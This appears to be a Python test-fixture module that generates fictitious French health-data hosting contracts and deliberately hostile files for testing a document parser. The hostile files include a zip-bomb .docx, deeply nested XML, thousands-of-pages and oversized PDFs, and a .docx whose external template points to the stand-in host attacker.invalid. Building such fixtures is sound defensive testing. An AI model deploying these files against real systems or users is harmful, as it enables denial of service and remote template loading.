"""Builders of synthetic contracts and hostile files, written by the tests themselves."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

# A compliant contract, written by the team for the tests (fictitious parties).
CLAUSES = {
    "hds": "Le Prestataire s'engage à héberger les données de santé exclusivement auprès d'un hébergeur "
           "certifié HDS pour les activités 1° à 6° de l'article R.1111-9 du code de la santé publique, et à "
           "maintenir cette certification pendant toute la durée du contrat.",
    "breach": "Le Prestataire notifie au Client toute violation de données à caractère personnel dans un délai "
              "maximal de vingt-quatre (24) heures après en avoir pris connaissance, par courriel adressé au "
              "délégué à la protection des données du Client, avec la description de la violation, ses "
              "conséquences probables et les mesures prises.",
    "audit": "Le Client peut faire réaliser, une fois par an, un audit de sécurité sur site par un auditeur "
             "indépendant, avec un préavis de quinze (15) jours ; le Prestataire s'engage à y coopérer.",
}


def contract_sections(extra: dict[str, str] | None = None, annex: dict[str, str] | None = None) -> list[tuple[str, str]]:
    """(heading, paragraph) pairs of a short contract; `annex` clauses go after an 'Annexe 1' heading."""
    sections = [("Article 1 : Objet", "Le présent contrat définit les conditions du service hébergé de gestion "
                 "du cabinet fourni par le Prestataire au Client.")]
    for i, (key, clause) in enumerate((extra if extra is not None else CLAUSES).items(), start=2):
        sections.append((f"Article {i} : {key.capitalize()}", clause))
    sections.append((f"Article {len(sections) + 1} : Droit applicable", "Le contrat est régi par le droit français."))
    if annex:
        sections.append(("Annexe 1 : Plan d'assurance sécurité", ""))
        for i, clause in enumerate(annex.values(), start=1):
            sections.append((f"{i}. Mesure {i}", clause))
    return sections


def as_text(sections: list[tuple[str, str]]) -> str:
    return "\n\n".join(f"{h}\n{p}" if p else h for h, p in sections) + "\n"


def write_txt(path: Path, sections: list[tuple[str, str]]) -> Path:
    path.write_text(as_text(sections), encoding="utf-8")
    return path


def write_docx(path: Path, sections: list[tuple[str, str]]) -> Path:
    import docx

    d = docx.Document()
    for heading, para in sections:
        d.add_heading(heading, level=1)
        if para:
            d.add_paragraph(para)
    d.save(path)
    return path


def write_pdf(path: Path, sections: list[tuple[str, str]], encrypt: str | None = None) -> Path:
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate, Spacer

    styles = getSampleStyleSheet()
    story = []
    for heading, para in sections:
        story.append(Paragraph(heading, styles["Heading2"]))
        if para:
            story.append(Paragraph(para, styles["BodyText"]))
        story.append(Spacer(1, 6))
    kwargs = {}
    if encrypt:
        from reportlab.lib import pdfencrypt

        kwargs["encrypt"] = pdfencrypt.StandardEncryption(encrypt, canPrint=0)
    SimpleDocTemplate(str(path), pagesize=A4, **kwargs).build(story)
    return path


def write_image_pdf(path: Path, text: str = "Article 1 : Objet du contrat", pages: int = 1) -> Path:
    """A 'scanned' PDF: each page is only a picture of text (no text layer)."""
    from PIL import Image, ImageDraw, ImageFont
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    try:
        font = ImageFont.load_default(size=44)
    except TypeError:  # very old Pillow
        font = ImageFont.load_default()
    c = canvas.Canvas(str(path), pagesize=A4)
    for _ in range(pages):
        img = Image.new("RGB", (1654, 2339), "white")
        draw = ImageDraw.Draw(img)
        y = 150
        for line in text.split("\n"):
            draw.text((120, y), line, fill="black", font=font)
            y += 80
        c.drawImage(ImageReader(img), 0, 0, width=A4[0], height=A4[1])
        c.showPage()
    c.save()
    return path


def zip_bomb_docx(path: Path, inflated_mb: int = 400) -> Path:
    """A .docx whose document.xml inflates to hundreds of MB (highly compressible)."""
    chunk = b"<w:p/>" * (1024 * 1024 // 6)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            for _ in range(inflated_mb):
                fh.write(chunk)
    return path


def nested_xml_docx(path: Path, depth: int = 5000) -> Path:
    """A .docx whose document.xml nests elements thousands of levels deep."""
    body = "<w:b>" * depth + "</w:b>" * depth
    xml = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
           f'2006/main"><w:body>{body}</w:body></w:document>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", xml)
    return path


def xlsx_like(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
    return path


def truncated(data: bytes, keep: float = 0.4) -> bytes:
    return data[: max(1, int(len(data) * keep))]


def pdf_bytes(sections: list[tuple[str, str]]) -> bytes:
    buf = io.BytesIO()
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate

    styles = getSampleStyleSheet()
    SimpleDocTemplate(buf, pagesize=A4).build([Paragraph(p or h, styles["BodyText"]) for h, p in sections])
    return buf.getvalue()


def many_pages_pdf(path: Path, pages: int = 3000) -> Path:
    """A PDF with thousands of (nearly empty) pages."""
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path))
    for i in range(pages):
        c.drawString(72, 720, f"Page {i + 1}")
        c.showPage()
    c.save()
    return path


def huge_page_pdf(path: Path, side_pt: float = 14400 * 1.5) -> Path:
    """A PDF whose single page is absurdly large (beyond the PDF 1.7 user-unit limit)."""
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path), pagesize=(side_pt, side_pt))
    c.drawString(72, 72, "Article 1 : Objet")
    c.showPage()
    c.save()
    return path


def external_link_docx(path: Path, sections: list[tuple[str, str]]) -> Path:
    """A valid contract .docx that also declares an external relationship (remote image/template)."""
    write_docx(path, sections)
    data = io.BytesIO(path.read_bytes())
    out = io.BytesIO()
    with zipfile.ZipFile(data) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            content = zin.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                content = content.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
                    b'TargetMode="External"/></Relationships>')
            zout.writestr(item, content)
    path.write_bytes(out.getvalue())
    return path
